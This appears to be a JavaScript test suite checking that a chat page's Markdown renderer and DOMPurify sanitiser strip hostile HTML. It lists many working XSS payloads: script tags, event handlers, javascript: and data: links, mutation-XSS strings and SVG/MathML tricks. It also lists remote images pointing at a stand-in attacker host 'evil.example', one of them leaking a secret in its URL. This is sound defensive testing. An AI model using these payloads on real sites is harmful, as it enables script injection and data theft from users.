// The sanitiser's rules (spec: Security model) against hostile Markdown and HTML.
//
// Every hostile input goes through both layers the page has: `render` (the model's
// text as Markdown, which is what the page shows) and `sanitize` (DOMPurify with the
// page's rules, on the input taken as HTML), and each must keep the rule on its own.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';

import { createRenderer } from '../src/markdown.js';

const { window } = new JSDOM('<!doctype html><html><body></body></html>');
const renderer = createRenderer(window);

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** The tree the page would hold, from Markdown or from HTML. */
function tree(input, layer = 'render') {
  const div = window.document.createElement('div');
  div.append(layer === 'render' ? renderer.render(input) : renderer.sanitize(input));
  return div;
}

const LAYERS = ['render', 'sanitize'];

/** Run `check(div)` on the input through both layers. */
function both(name, input, check) {
  for (const layer of LAYERS) {
    test(`${layer}: ${name || JSON.stringify(input)}`, () => check(tree(input, layer), layer));
  }
}

function noTags(div, tags) {
  for (const tag of tags) {
    assert.equal(div.querySelector(tag), null, `<${tag}> survived in ${div.innerHTML}`);
  }
}

function noAttrs(div, test) {
  for (const el of div.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      assert.ok(!test(attr), `${attr.name}="${attr.value}" survived on <${el.localName}>: ${div.innerHTML}`);
    }
  }
}

const noHandlers = (div) => noAttrs(div, (a) => /^on/i.test(a.name));
const noRemote = (div) => noAttrs(div, (a) => /evil\.example/.test(a.value) && a.name !== 'href');

describe('scripts', () => {
  const inputs = [
    '<script>alert(1)</script>',
    'hello <script src="https://evil.example/x.js"></script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noTags(div, ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'template', 'noscript']);
      noHandlers(div);
    });
  }

  test('render: a fenced script is shown as code text', () => {
    const div = tree('```html\n<script>alert(1)</script>\n```');
    assert.equal(div.querySelector('pre code').textContent, '<script>alert(1)</script>\n');
  });

  test('render: raw HTML in the text is shown as text', () => {
    const div = tree('a <b onclick="x()">tag</b>');
    assert.equal(div.querySelector('b'), null);
    assert.match(div.textContent, /<b onclick="x\(\)">tag<\/b>/);
  });
});

describe('event handlers', () => {
  const inputs = [
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://example.com" onmouseover="alert(1)">x</a>',
    '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
    '<div onpointerenter=alert(1)>x</div>',
    '<body onload="alert(1)">',
    `<img src="${PNG}" onload="alert(1)" alt="dot">`,
    '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noHandlers(div);
      noTags(div, ['svg', 'math', 'style', 'animate']);
    });
  }

  test('sanitize: an element keeps its text without its handler', () => {
    const div = tree('<p onclick="alert(1)">click</p>', 'sanitize');
    assert.equal(div.querySelector('p').textContent, 'click');
    assert.equal(div.querySelector('p').getAttribute('onclick'), null);
  });
});

describe('links', () => {
  const bad = [
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](  javascript:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](/api/session/unload)',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/api/session/unload">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
  ];
  for (const input of bad) {
    both('', input, (div) => {
      for (const a of div.querySelectorAll('a')) {
        assert.equal(a.getAttribute('href'), null, div.innerHTML);
      }
      noAttrs(div, (attr) => /javascript|vbscript|data:text|file:|\/api\//i.test(attr.value));
    });
  }

  test('render: http(s) and mailto links open in a new tab with no referrer', () => {
    const div = tree('[a](https://example.com/a) [b](http://example.com/b) <mailto:me@example.com> https://example.com/c');
    const links = Array.from(div.querySelectorAll('a'));
    assert.equal(links.length, 4);
    for (const a of links) {
      assert.match(a.getAttribute('href'), /^(https?:|mailto:)/);
      assert.equal(a.getAttribute('target'), '_blank');
      assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
      assert.equal(a.getAttribute('referrerpolicy'), 'no-referrer');
    }
  });

  test('sanitize: the link’s own target and rel are replaced', () => {
    const a = tree('<a href="http://example.com/b" target="_self" rel="opener">b</a>', 'sanitize').querySelector('a');
    assert.equal(a.getAttribute('target'), '_blank');
    assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
  });

  test('sanitize: ping and download are dropped', () => {
    const a = tree('<a href="https://example.com" ping="https://evil.example/p" download>x</a>', 'sanitize').querySelector('a');
    assert.equal(a.getAttribute('ping'), null);
    assert.equal(a.getAttribute('download'), null);
  });
});

describe('forms', () => {
  const inputs = [
    '<form action="/api/session/unload" method="post"><button>Go</button></form>',
    '<input type="text" value="x">',
    '<input type="image" src="https://evil.example/x.png">',
    '<button formaction="/api/cancel">stop</button>',
    '<textarea>x</textarea>',
    '<select><option>a</option></select>',
    '<fieldset><legend>l</legend><label>n</label><output>o</output></fieldset>',
    '<dialog open>modal</dialog>',
    '<isindex action="https://evil.example/">',
    '- [ ] a task list item',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noTags(div, ['form', 'input', 'button', 'textarea', 'select', 'option', 'fieldset', 'label', 'output', 'dialog', 'isindex']);
      noAttrs(div, (a) => /^(form)?action$/i.test(a.name));
    });
  }
});

describe('styles', () => {
  const inputs = [
    '<style>body { display: none }</style>',
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    '<div style="background-image:url(https://evil.example/x)">x</div>',
    '<span class="overlay" id="app" name="x">borrowed class</span>',
    '| a | b | c |\n|--:|:--|:-:|\n| 1 | 2 | 3 |',
    '<font color="red" face="x">x</font>',
    '<svg><style>*{display:none}</style></svg>',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noTags(div, ['style', 'svg']);
      noAttrs(div, (a) => ['style', 'class', 'id', 'name'].includes(a.name));
    });
  }

  test('render: an aligned table renders, without its style attributes', () => {
    const html = renderer.renderToHTML('| a | b |\n|--:|:--|\n| 1 | 2 |');
    const div = tree('| a | b |\n|--:|:--|\n| 1 | 2 |');
    assert.equal(div.querySelectorAll('td').length, 2);
    assert.ok(!html.includes('style'), html);
  });
});

describe('images', () => {
  test('render: a remote image becomes its alt text', () => {
    const div = tree('look: ![secret in alt](https://evil.example/leak?q=secret)');
    assert.equal(div.querySelector('img'), null);
    assert.match(div.textContent, /look: secret in alt/);
    assert.ok(!div.innerHTML.includes('evil.example'));
  });

  const remote = [
    ['![remote](https://evil.example/x.png)', '<img src="https://evil.example/x.png" alt="remote">'],
    ['![remote](//evil.example/x.png)', '<img src="//evil.example/x.png" alt="remote">'],
    ['![remote](/api/session/unload)', '<img src="/api/session/unload" alt="remote">'],
    ['![remote](x.png)', '<img src="x.png" alt="remote">'],
    ['![remote](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="remote">'],
    ['![remote](data:text/html;base64,PHA+eDwvcD4=)', '<img src="data:text/html;base64,PHA+eDwvcD4=" alt="remote">'],
    ['![remote](<data:image/svg+xml;utf8,<svg onload=alert(1)>>)', '<img alt="remote">'],
  ];
  for (const [markdown, html] of remote) {
    for (const [layer, input] of [['render', markdown], ['sanitize', html]]) {
      test(`${layer}: replaced by its alt text: ${JSON.stringify(input)}`, () => {
        const div = tree(input, layer);
        assert.equal(div.querySelector('img'), null, div.innerHTML);
        assert.match(div.textContent, /remote/);
        assert.ok(!div.innerHTML.includes('evil.example'), div.innerHTML);
      });
    }
  }

  for (const type of ['png', 'gif', 'jpeg', 'webp']) {
    for (const [layer, input] of [['render', `![dot](data:image/${type};base64,AAAA)`], ['sanitize', `<img src="data:image/${type};base64,AAAA" alt="dot">`]]) {
      test(`${layer}: inline data:image/${type} is kept`, () => {
        const img = tree(input, layer).querySelector('img');
        assert.ok(img, input);
        assert.equal(img.getAttribute('src'), `data:image/${type};base64,AAAA`);
        assert.equal(img.getAttribute('alt'), 'dot');
      });
    }
  }

  test('sanitize: a kept image loses srcset, sizes and handlers', () => {
    const img = tree(`<img src="${PNG}" srcset="https://evil.example/a.png 2x" sizes="10px" onerror="x()" alt="dot">`, 'sanitize').querySelector('img');
    assert.ok(img);
    assert.equal(img.getAttribute('srcset'), null);
    assert.equal(img.getAttribute('sizes'), null);
    assert.equal(img.getAttribute('onerror'), null);
  });

  test('render: an image inside a link leaves its alt text inside the link', () => {
    const div = tree('[![badge](https://evil.example/b.svg)](https://example.com)');
    assert.equal(div.querySelector('img'), null);
    assert.equal(div.querySelector('a').textContent, 'badge');
  });
});

describe('svg', () => {
  const inputs = [
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noTags(div, ['svg', 'math', 'image', 'use', 'script', 'iframe', 'foreignObject', 'img']);
      noHandlers(div);
      // (a URL in the text may become a link, which is allowed: links are not fetched)
      noAttrs(div, (a) => /javascript:|svg\+xml/.test(a.value) || (/evil\.example/.test(a.value) && a.name !== 'href'));
    });
  }
});

describe('srcset, media, poster and background', () => {
  const inputs = [
    '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png" alt="pic"></picture>',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
    '<video><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>',
    '<body background="https://evil.example/bg.png">x</body>',
    '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/2x.png 2x" alt="x">',
    '<input type="image" src="https://evil.example/i.png">',
    '<img lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d.avi" alt="x">',
  ];
  for (const input of inputs) {
    both('', input, (div) => {
      noTags(div, ['picture', 'source', 'video', 'audio', 'track', 'input']);
      noRemote(div);
      noAttrs(div, (a) => ['srcset', 'poster', 'background', 'lowsrc', 'dynsrc'].includes(a.name));
    });
  }
});

describe('ordinary markdown', () => {
  test('renders emphasis, lists, code and quotes', () => {
    const div = tree('# Title\n\n*em* **strong** `code`\n\n- a\n- b\n\n> quote\n\n```\nx < y\n```');
    assert.ok(div.querySelector('h1'));
    assert.ok(div.querySelector('em'));
    assert.ok(div.querySelector('strong'));
    assert.equal(div.querySelectorAll('li').length, 2);
    assert.ok(div.querySelector('blockquote'));
    assert.equal(div.querySelector('pre code').textContent, 'x < y\n');
  });

  test('markup inside code stays text', () => {
    const div = tree('`<img src=x onerror=alert(1)>`');
    assert.equal(div.querySelector('img'), null);
    assert.equal(div.querySelector('code').textContent, '<img src=x onerror=alert(1)>');
  });

  test('sanitize: details and summary are kept', () => {
    assert.ok(tree('<details><summary>more</summary>hidden</details>', 'sanitize').querySelector('details summary'));
  });

  test('line breaks inside a paragraph are kept', () => {
    assert.equal(tree('one\ntwo').querySelectorAll('br').length, 1);
  });
});
